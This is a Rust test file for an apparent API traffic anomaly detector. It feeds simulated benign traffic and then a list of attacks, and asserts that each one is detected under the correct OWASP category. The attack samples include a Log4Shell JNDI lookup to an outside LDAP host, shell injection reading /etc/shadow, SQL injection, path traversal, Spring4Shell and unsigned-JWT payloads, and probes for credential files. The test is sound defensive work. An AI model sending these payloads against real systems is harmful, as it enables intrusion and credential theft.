//! Benign traffic of many principals over simulated hours, then each attack: every detector fires
//! on its attack with the right category, and benign traffic alone produces no anomaly.

mod common;

use common::*;
use sonde_detect::DetectConfig;
use sonde_model::{ExchangeFlags, OwaspCategory as C};

/// Benign warm-up: 200 users, 100k calls over ~2 simulated hours.
const WARM_CALLS: u64 = 100_000;
const WARM_DT: u64 = 72 * MS;

struct Attack {
    name: &'static str,
    kind: &'static str,
    category: C,
    calls: Vec<Ex>,
}

fn attacker(k: u8) -> [u8; 4] {
    [192, 168, 77, k]
}

fn attacks(sim: &mut Sim) -> Vec<Attack> {
    let exp_ok = sim.now_s() + 3600;
    let mut out = Vec::new();
    let mut k = 0u8;
    let mut next = || {
        k += 1;
        (attacker(k), jwt(&format!("attacker-{k}"), exp_ok))
    };

    let (ip, tok) = next();
    let ids = sim.foreign_orders(usize::MAX, 200);
    out.push(Attack {
        name: "BOLA enumeration of other users' orders",
        kind: "bola.enumeration",
        category: C::Api1Bola,
        calls: ids
            .iter()
            .map(|id| {
                Ex::new(ip, "GET", &format!("/api/orders/{id}"))
                    .bearer(&tok)
                    .json(&format!(r#"{{"id":{id},"status":"shipped"}}"#))
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "sequential id walk",
        kind: "bola.sequential_walk",
        category: C::Api1Bola,
        calls: (0..40u64)
            .map(|i| {
                Ex::new(ip, "GET", &format!("/api/orders/{}", 30_000_000 + i))
                    .bearer(&tok)
                    .status(404)
                    .json(r#"{"error":"not found"}"#)
            })
            .collect(),
    });

    let (ip, tok) = next();
    let ids = sim.foreign_orders(usize::MAX, 8);
    out.push(Attack {
        name: "2xx for objects of other principals",
        kind: "bola.foreign_object_access",
        category: C::Api1Bola,
        calls: ids
            .iter()
            .map(|id| {
                Ex::new(ip, "GET", &format!("/api/orders/{id}"))
                    .bearer(&tok)
                    .json(&format!(r#"{{"id":{id},"status":"shipped"}}"#))
            })
            .collect(),
    });

    let (ip, _) = next();
    let expired = jwt("user-3", sim.now_s() - 7200);
    out.push(Attack {
        name: "expired JWT accepted",
        kind: "auth.expired_jwt_accepted",
        category: C::Api2BrokenAuth,
        calls: vec![
            Ex::new(ip, "GET", "/api/me")
                .bearer(&expired)
                .json(r#"{"name":"User"}"#),
        ],
    });

    let (ip, _) = next();
    let none = unsigned_jwt("admin", exp_ok);
    out.push(Attack {
        name: "alg:none JWT accepted",
        kind: "auth.unsigned_jwt_accepted",
        category: C::Api2BrokenAuth,
        calls: vec![
            Ex::new(ip, "GET", "/api/me")
                .bearer(&none)
                .json(r#"{"name":"Admin"}"#),
        ],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "unauthenticated 2xx on an authenticated endpoint",
        kind: "auth.unauthenticated_access",
        category: C::Api2BrokenAuth,
        calls: vec![Ex::new(ip, "GET", "/api/me").json(r#"{"name":"Someone"}"#)],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "API key in the URL",
        kind: "auth.credential_in_url",
        category: C::Api2BrokenAuth,
        calls: vec![
            Ex::new(
                ip,
                "GET",
                "/api/products/107?api_key=k3y-0f-th3-c4ll3r-2024xyz",
            )
            .json(r#"{"id":107}"#),
        ],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "Basic auth over plaintext",
        kind: "auth.basic_plaintext",
        category: C::Api2BrokenAuth,
        calls: vec![
            Ex::new(ip, "GET", "/api/products/114")
                .header("authorization", &format!("Basic {}", b64("admin:hunter2")))
                .json(r#"{"id":114}"#),
        ],
    });

    let (ip, tok) = next();
    let rec = r#"{"id":1,"status":"shipped","total":42.5,"email":"someone@mail.example.com"},"#;
    let sample: String = format!("[{}", rec.repeat(800));
    out.push(Attack {
        name: "bulk export: thousands of records in one response",
        kind: "exposure.many_records",
        category: C::Api3PropertyAuth,
        calls: vec![
            Ex::new(ip, "GET", "/api/orders?page=1&sort=date&limit=100000")
                .bearer(&tok)
                .big_json(&sample, (sample.len() * 10) as u64),
        ],
    });

    let (ip, tok) = next();
    let one = format!("[{}", rec.repeat(100));
    out.push(Attack {
        name: "one principal's data volume spiking",
        kind: "exposure.volume_spike",
        category: C::Api4ResourceConsumption,
        calls: (0..40)
            .map(|_| {
                Ex::new(ip, "GET", "/api/orders?page=1&sort=date")
                    .bearer(&tok)
                    .big_json(&one, 1_500_000)
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "private key and cloud key in a response",
        kind: "exposure.secret_in_response",
        category: C::Api3PropertyAuth,
        calls: vec![Ex::new(ip, "GET", "/api/debug/config").bearer(&tok).json(
            r#"{"aws_key":"AKIAIOSFODNN7EXAMPLE","tls":"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"}"#,
        )],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "personal data to an unauthenticated caller",
        kind: "exposure.unauthenticated_personal_data",
        category: C::Api3PropertyAuth,
        calls: vec![Ex::new(ip, "GET", "/api/products/121").json(r#"{"id":121,"seller":{"email":"jane.doe@mail.example.com","phone":"+44 20 7946 0958"}}"#)],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "401 burst (token guessing)",
        kind: "scan.error_burst",
        category: C::Api8Misconfiguration,
        calls: (0..40u64)
            .map(|i| {
                Ex::new(ip, "GET", "/api/me")
                    .bearer(&format!("guess-{i}-aaaaaaaaaaaaaaaa"))
                    .status(401)
                    .json(r#"{"error":"unauthorized"}"#)
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "endpoint sweep (crawling 60 endpoints)",
        kind: "scan.endpoint_sweep",
        category: C::Api8Misconfiguration,
        calls: (0..60u32)
            .map(|i| {
                Ex::new(ip, "GET", &format!("/v2/s{}/r{}", i % 20, i / 20))
                    .bearer(&tok)
                    .json("{}")
            })
            .collect(),
    });

    let (ip, _) = next();
    let probes = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/admin",
        "/phpmyadmin",
        "/server-status",
        "/actuator/env",
        "/config.json",
        "/backup.zip",
        "/.aws/credentials",
        "/api/v1/admin",
        "/console",
        "/debug/pprof",
        "/swagger.json",
        "/api-docs",
        "/.DS_Store",
        "/web.config",
        "/login.action",
        "/cgi-bin/test",
        "/manager/html",
        "/solr/admin",
        "/jenkins",
        "/graphql",
        "/.htaccess",
    ];
    out.push(Attack {
        name: "path sweep (404s)",
        kind: "scan.path_sweep",
        category: C::Api8Misconfiguration,
        calls: probes
            .iter()
            .map(|p| {
                Ex::new(ip, "GET", p)
                    .status(404)
                    .text("text/html", "<h1>Not Found</h1>")
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "5xx burst (fuzzing)",
        kind: "scan.server_error_burst",
        category: C::Api8Misconfiguration,
        calls: (0..25u64)
            .map(|i| {
                Ex::new(ip, "POST", "/api/orders")
                    .bearer(&tok)
                    .req_json(&format!(r#"{{"product":{i},"qty":-99999999999}}"#))
                    .status(500)
                    .json(r#"{"error":"internal"}"#)
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "request-rate spike",
        kind: "abuse.rate_spike",
        category: C::Api4ResourceConsumption,
        calls: (0..1300)
            .map(|_| {
                Ex::new(ip, "GET", "/api/me")
                    .bearer(&tok)
                    .json(r#"{"name":"User"}"#)
            })
            .collect(),
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "stack trace in an error response",
        kind: "misconfig.debug_output",
        category: C::Api8Misconfiguration,
        calls: vec![Ex::new(ip, "GET", "/api/orders/7?sort=x").bearer(&tok).status(500).text(
            "text/plain",
            "Traceback (most recent call last):\n  File \"/app/views.py\", line 42, in get_order\nKeyError: 'x'",
        )],
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "request smuggling framing",
        kind: "http.smuggling_indicator",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(ip, "POST", "/api/orders")
                .bearer(&tok)
                .flag(ExchangeFlags::SMUGGLING)
                .status(201)
                .json(r#"{"id":1}"#),
        ],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "Log4Shell JNDI lookup in a header",
        kind: "exploit.jndi_lookup",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(ip, "GET", "/api/products/100")
                .header("x-api-version", "${jndi:ldap://198.51.100.7:1389/a}")
                .json(r#"{"id":100}"#),
        ],
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "Spring4Shell class loader",
        kind: "exploit.spring4shell",
        category: C::Api8Misconfiguration,
        calls: vec![Ex::new(ip, "GET", "/api/products/100?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")
            .bearer(&tok)
            .status(400)
            .json(r#"{"error":"bad"}"#)],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "path traversal",
        kind: "exploit.path_traversal",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(ip, "GET", "/static/..%2f..%2f..%2fetc%2fpasswd")
                .status(404)
                .text("text/html", "nope"),
        ],
    });

    let (ip, tok) = next();
    out.push(Attack {
        name: "shell injection in a parameter",
        kind: "exploit.command_injection",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(
                ip,
                "GET",
                "/api/products/100?ping=8.8.8.8;cat%20/etc/shadow",
            )
            .bearer(&tok)
            .json(r#"{"id":100}"#),
        ],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "SQL injection tautology",
        kind: "exploit.sql_injection",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(
                ip,
                "GET",
                "/api/products/100?name=x%27%20OR%20%271%27%3D%271",
            )
            .json(r#"[{"id":100},{"id":101}]"#),
        ],
    });

    let (ip, _) = next();
    out.push(Attack {
        name: "SQL injection UNION SELECT",
        kind: "exploit.sql_injection",
        category: C::Api8Misconfiguration,
        calls: vec![
            Ex::new(
                ip,
                "GET",
                "/api/products/100?id=1+UNION+SELECT+username,password+FROM+users--",
            )
            .status(500)
            .text("text/plain", "error"),
        ],
    });
    out
}

#[test]
fn benign_is_silent_and_every_attack_is_caught() {
    let mut sim = Sim::new(200, 0x5eed, DetectConfig::default());
    for _ in 0..(WARM_CALLS / 1000) {
        sim.benign(1000, WARM_DT);
        let d = sim.drain();
        assert!(d.is_empty(), "benign traffic raised anomalies: {d:#?}");
    }
    let st = sim.det.stats();
    println!(
        "benign: {} exchanges over {:.1} simulated hours, {} principals, {} endpoints, 0 anomalies, ~{} KiB state",
        sim.exchanges,
        (sim.now - T0) as f64 / 3.6e12,
        st.principals,
        st.endpoints,
        st.approx_heap_bytes / 1024
    );
    // A further stretch of benign traffic at attack-phase pace stays silent too.
    sim.benign(20_000, 10 * MS);
    assert!(
        sim.drain().is_empty(),
        "benign traffic at a faster pace raised anomalies"
    );

    let list = attacks(&mut sim);
    let mut failures = Vec::new();
    println!("{:<52} {:<40} {:>8} others", "attack", "kind", "latency");
    for a in list {
        let _ = sim.drain();
        let mut latency = None;
        let mut others = std::collections::BTreeSet::new();
        for (i, e) in a.calls.into_iter().enumerate() {
            sim.feed(e, 10 * MS);
            for an in sim.drain() {
                if an.kind == a.kind && an.category == a.category && latency.is_none() {
                    latency = Some(i + 1);
                } else if an.kind != a.kind {
                    others.insert(an.kind.clone());
                }
                assert!(!an.explanation.is_empty() && !an.evidence.request_line.is_empty());
            }
            sim.benign(2, 10 * MS);
        }
        // Benign traffic in between raised nothing attributed to benign principals.
        for an in sim.drain() {
            others.insert(an.kind);
        }
        let lat = latency.map_or("MISSED".to_owned(), |l| l.to_string());
        println!("{:<52} {:<40} {:>8} {:?}", a.name, a.kind, lat, others);
        if latency.is_none() {
            failures.push(a.name);
        }
    }
    // Evidence never carries raw credentials or object ids.
    for an in &sim.found {
        let text = format!("{an:?}");
        for secret in [
            "hunter2",
            "k3y-0f-th3",
            "AKIAIOSFODNN7EXAMPLE",
            "jane.doe",
            "signature-bytes",
        ] {
            assert!(!text.contains(secret), "{} leaks {secret}: {text}", an.kind);
        }
    }
    assert!(failures.is_empty(), "missed: {failures:?}");
}

#[test]
fn repeats_are_grouped_and_reemitted_at_most_once_per_interval() {
    let mut sim = Sim::new(20, 7, DetectConfig::default());
    let none = unsigned_jwt("admin", sim.now_s() + 3600);
    let mut emitted = Vec::new();
    // 600 repeats over 10 simulated minutes, drained after each.
    for _ in 0..600 {
        sim.feed(
            Ex::new([192, 168, 1, 1], "GET", "/api/me")
                .bearer(&none)
                .json("{}"),
            1000 * MS,
        );
        emitted.extend(
            sim.drain()
                .into_iter()
                .filter(|a| a.kind == "auth.unsigned_jwt_accepted"),
        );
    }
    assert!(
        (10..=12).contains(&emitted.len()),
        "re-emitted {} times",
        emitted.len()
    );
    let last = emitted.last().expect("emitted");
    assert!(
        last.count >= 500 && last.last_seen_ns > last.first_seen_ns,
        "{last:?}"
    );
    assert!(emitted.iter().all(|a| a.key == emitted[0].key));
}

#[test]
fn benign_only_with_varying_load_raises_nothing() {
    // Another population and seed; load swings between quiet and busy phases (10x).
    let mut sim = Sim::new(500, 0xfeed_beef, DetectConfig::default());
    for phase in 0..30u64 {
        let dt = if phase % 3 == 0 { 15 * MS } else { 150 * MS };
        sim.benign(5_000, dt);
        let d = sim.drain();
        assert!(d.is_empty(), "phase {phase}: {d:#?}");
    }
    println!(
        "benign-only: {} exchanges over {:.1} simulated hours, {} findings",
        sim.exchanges,
        (sim.now - T0) as f64 / 3.6e12,
        sim.det.stats().findings
    );
    assert_eq!(sim.det.stats().findings, 0);
}
